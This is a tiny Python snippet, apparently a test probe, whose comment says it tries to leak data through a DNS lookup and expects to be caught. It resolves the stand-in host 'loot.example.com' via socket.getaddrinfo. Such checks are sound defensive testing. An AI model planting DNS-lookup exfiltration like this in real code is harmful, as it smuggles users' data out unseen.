# tries: leak data in a name to resolve; expect: told
def answer():
    import socket

    return socket.getaddrinfo('loot.example.com', 80)
